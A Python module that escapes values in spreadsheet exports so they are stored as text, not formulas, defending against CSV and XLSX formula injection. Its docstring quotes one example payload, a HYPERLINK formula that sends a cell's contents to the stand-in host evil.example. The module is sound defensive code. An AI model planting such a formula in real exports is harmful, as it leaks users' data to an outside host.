"""Writing values into exported spreadsheets as data, never as formulas.

Every export (registries, the schedule) writes its cells through these
helpers, so a stored value such as ``=HYPERLINK("http://evil.example/?leak="&A1,"click")``
arrives in Excel as the text it is:

* XLSX (openpyxl): a string starting with ``=`` would become a formula; the
  cell's type is forced to text (``data_type = "s"``), so the value is the
  literal string. Characters XML cannot hold (C0 controls, which the
  validation layer keeps out of the database, but older rows may hold) are
  replaced with U+FFFD instead of failing the whole export.
* CSV: a value starting with ``=``, ``+``, ``-``, ``@``, TAB or CR gets a
  leading ``'`` (OWASP's rule for CSV injection), which spreadsheet software
  shows as text. :func:`csv_unescape` undoes it for an importer that reads
  such a file back.

>>> csv_value('=1+1'), csv_value('-5'), csv_value('福清'), csv_value(3)
("'=1+1", "'-5", '福清', 3)
>>> csv_unescape("'=1+1"), csv_unescape("'abc")
('=1+1', "'abc")
"""

from __future__ import annotations

from typing import Any, Iterable

from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

CSV_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def csv_value(value: Any) -> Any:
    """``value`` safe for a CSV cell: strings starting with a formula
    trigger are prefixed with ``'``; other values are unchanged."""
    if isinstance(value, str) and value.startswith(CSV_TRIGGERS):
        return "'" + value
    return value


def csv_row(values: Iterable[Any]) -> list[Any]:
    return [csv_value(v) for v in values]


def csv_unescape(text: str) -> str:
    """The inverse of :func:`csv_value` for a string read from a CSV file."""
    if text.startswith("'") and text[1:2] != "" and text[1:].startswith(CSV_TRIGGERS):
        return text[1:]
    return text


def xlsx_cell(sheet, value: Any, **style) -> WriteOnlyCell:
    """A write-only cell holding ``value``; strings are always text cells.
    ``style`` sets cell attributes such as ``font``."""
    if isinstance(value, str):
        value = ILLEGAL_CHARACTERS_RE.sub("\ufffd", value)
    cell = WriteOnlyCell(sheet, value=value)
    if isinstance(value, str):
        cell.data_type = "s"  # never a formula, whatever the first character
    for name, attr in style.items():
        setattr(cell, name, attr)
    return cell


def xlsx_row(sheet, values: Iterable[Any], **style) -> list[Any]:
    """A row for ``sheet.append`` (write-only worksheets). Without ``style``
    only the values openpyxl would misread (strings starting with ``=``, or
    holding characters XML cannot carry) become cells; the rest stay plain,
    which keeps exports of millions of rows fast."""
    if style:
        return [xlsx_cell(sheet, v, **style) for v in values]
    return [xlsx_cell(sheet, v) if isinstance(v, str) and (v.startswith("=") or ILLEGAL_CHARACTERS_RE.search(v))
            else v for v in values]
